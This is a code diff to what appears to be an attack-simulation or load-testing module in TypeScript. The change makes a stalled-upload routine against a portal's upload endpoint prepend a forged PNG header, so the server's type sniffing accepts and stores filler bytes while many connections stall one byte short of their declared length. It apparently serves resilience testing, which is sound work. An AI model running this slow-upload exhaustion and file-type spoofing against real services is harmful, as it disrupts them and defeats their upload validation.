@@ -213,7 +213,10 @@ export async function slowPortalReaders(base: string, hostile: Company, complain
 /** (e) Uploads that declare `declared` bytes, send one byte less and stall until `end`. */
 export async function stalledUploads(base: string, hostile: Company, p: { count: number; addresses: number; declared: number }, end: number, stats: AttackStats) {
   const url = new URL(`${base}/portal/uploads?tenant=${hostile.slug}`);
+  // The bytes pass as a PNG (the type is sniffed from the first part), so the server stores what arrives.
   const chunk = Buffer.alloc(64 * 1024, 0x41);
+  const first = Buffer.from(chunk);
+  Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex').copy(first);
   const pending = Array.from({ length: p.count }, (_, i) => new Promise<void>((resolve) => {
     stats.sent++;
     const req = request({ host: url.hostname, port: url.port, path: url.pathname + url.search, method: 'POST', headers: {
@@ -237,8 +240,9 @@ export async function stalledUploads(base: string, hostile: Company, p: { count:
     const pump = () => {
       while (sent < p.declared - 1 && !answered) {
         const n = Math.min(chunk.length, p.declared - 1 - sent);
+        const part = sent === 0 ? first : chunk;
         sent += n;
-        if (!req.write(n === chunk.length ? chunk : chunk.subarray(0, n))) return void req.once('drain', pump);
+        if (!req.write(n === part.length ? part : part.subarray(0, n))) return void req.once('drain', pump);
       }
     };
     pump();
